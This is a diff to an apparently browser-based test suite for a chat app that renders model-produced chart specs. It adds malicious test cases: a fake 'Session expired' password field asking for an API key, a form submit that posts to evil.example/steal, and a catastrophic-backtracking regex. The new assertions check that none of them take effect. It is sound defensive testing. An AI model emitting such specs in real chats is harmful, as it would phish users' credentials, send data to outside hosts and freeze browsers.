@@ -78,6 +78,30 @@ describe('what a model says', () => {
       { mark: { type: 'image', url: 'https://evil.example/i.png' }, encoding: { x: { field: 'a' } } },
     ],
     [
+      'takes the page for a password field',
+      {
+        mark: 'bar',
+        params: [{ name: 'Session expired', bind: { input: 'password', element: 'body', placeholder: 'API key' } }],
+        encoding: { x: { field: 'a' } },
+      },
+    ],
+    [
+      'sends a form elsewhere',
+      {
+        mark: 'bar',
+        params: [{ name: 'a', bind: { input: 'submit', formaction: 'https://evil.example/steal' } }],
+        encoding: { x: { field: 'a' } },
+      },
+    ],
+    [
+      'never ends',
+      {
+        mark: 'point',
+        transform: [{ filter: "test(regexp('^(a+)+$'), 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab')" }],
+        encoding: { x: { field: 'a', type: 'quantitative', bin: { step: 0.000_000_1 } } },
+      },
+    ],
+    [
       'evaluates',
       {
         mark: 'bar',
@@ -111,7 +135,9 @@ describe('what a model says', () => {
     await chat.answered();
     await chat.page.locator('.chart-place svg, .chart p.hint').first().waitFor();
     expect(await chat.page.title()).toBe('Chat');
-    expect(await chat.page.locator('.chart image, .chart a').count()).toBe(0);
+    expect(await chat.page.locator('.chart image, .chart a, .chart [style]').count()).toBe(0);
+    expect(await chat.page.locator('input, form').count()).toBe(0);
+    expect(await chat.page.getByRole('textbox', { name: 'Question for the agent' }).isVisible()).toBe(true);
     expect(chat.requests.filter((url) => !url.startsWith('https://chat.example/'))).toEqual([]);
     await chat.page.close();
   });
